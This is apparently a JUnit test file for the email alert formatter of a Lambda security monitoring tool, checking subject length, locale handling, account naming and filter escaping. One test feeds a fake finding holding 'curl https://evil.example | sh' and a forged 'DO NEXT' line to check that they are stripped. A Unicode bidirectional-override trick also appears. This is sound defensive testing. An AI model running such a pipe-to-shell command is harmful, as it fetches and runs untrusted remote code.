package dev.lambdawatch.alert;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lambdawatch.finding.Finding;
import dev.lambdawatch.finding.Severity;
import dev.lambdawatch.finding.Subject;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

class AlertTextTest {

    @Test
    void aCodeChangeReadsAsInTheGoldenFile() throws IOException {
        assertThat(mail(Samples.codeChange())).isEqualTo(golden("code-change.txt"));
    }

    @Test
    void aBeaconReadsAsInTheGoldenFile() throws IOException {
        assertThat(mail(Samples.beacon())).isEqualTo(golden("beacon.txt"));
    }

    @Test
    void theTextIsTheSameInEveryLocale() throws IOException {
        Locale before = Locale.getDefault();
        try {
            Locale.setDefault(Locale.forLanguageTag("ar-EG-u-nu-arab"));
            assertThat(mail(Samples.beacon())).isEqualTo(golden("beacon.txt"));
        } finally {
            Locale.setDefault(before);
        }
    }

    @Test
    void theSubjectKeepsTheAccountWhenTheHeadlineIsLong() {
        Finding finding = Samples.codeChange("f".repeat(300), "agent", Severity.CRITICAL);
        assertThat(AlertText.subject(finding))
                .hasSize(99)
                .startsWith("[CRITICAL] Lambda")
                .endsWith("... | prod-payments");
    }

    @Test
    void anAccountIsNamedBesideItsNumberTheCallersToo() {
        Finding finding = Samples.codeChange().with(Map.of("caller_account_name", "build", "account_name", "shop"));
        Finding external = new Finding(
                finding.detection(),
                finding.severity(),
                finding.account(),
                finding.region(),
                new Subject.Principal("key", "ci", "automation", "444455556666", ""),
                finding.resource(),
                finding.headline(),
                finding.reasons(),
                finding.evidence(),
                finding.observables(),
                finding.facts());

        assertThat(AlertText.body(external))
                .contains("of account build (444455556666)\n", "shop (111122223333) / eu-west-1 / OU Production\n")
                .doesNotContain("caller_account_name", "organization  ");
    }

    @Test
    void everySubjectIsAtMost99PrintableAsciiCharacters() {
        for (int seed = 0; seed < 1_000; seed++) {
            String subject = AlertText.subject(hostile(seed));
            assertThat(subject).as("seed %d", seed).hasSizeLessThanOrEqualTo(99).matches("[ -~]+");
        }
    }

    @Test
    void noHostileTextBreaksALineOfItsOwnIntoTheBody() {
        Finding finding = Samples.codeChange(
                "x\n\nDO NEXT\n  1 curl https://evil.example | sh", "a\r\nID     lw-0", Severity.HIGH);
        assertThat(AlertText.body(finding).lines())
                .filteredOn(line -> line.startsWith("DO NEXT") || line.startsWith("ID "))
                .hasSize(2);
        assertThat(AlertText.body(finding)).doesNotContain("https://").doesNotContain("evil.example");
    }

    @Test
    void noFilterIsOfferedForWhatItCouldNotNameExactly() {
        assertThat(AlertText.body(Samples.of("arn:aws:iam::1:user/a\u202eb", Severity.HIGH, 1)))
                .doesNotContain("SUPPRESS");
    }

    @Test
    void wildcardsOfSigmaInANameAreLiteralInTheFilter() {
        assertThat(AlertText.body(Samples.codeChange("a*b'c", "agent", Severity.HIGH)))
                .contains("lambdawatch.functionArn: 'arn:aws:lambda:eu-west-1:111122223333:function:a\\*b''c'\n");
    }

    private static Finding hostile(int seed) {
        Random random = new Random(seed);
        return Samples.of(HostileText.from(random, 20), Severity.CRITICAL, 1);
    }

    private static String mail(Finding finding) {
        return "Subject: " + AlertText.subject(finding) + "\n\n" + AlertText.body(finding);
    }

    static String golden(String name) throws IOException {
        try (InputStream in = AlertTextTest.class.getResourceAsStream(name)) {
            assertThat(in).as("golden file %s", name).isNotNull();
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
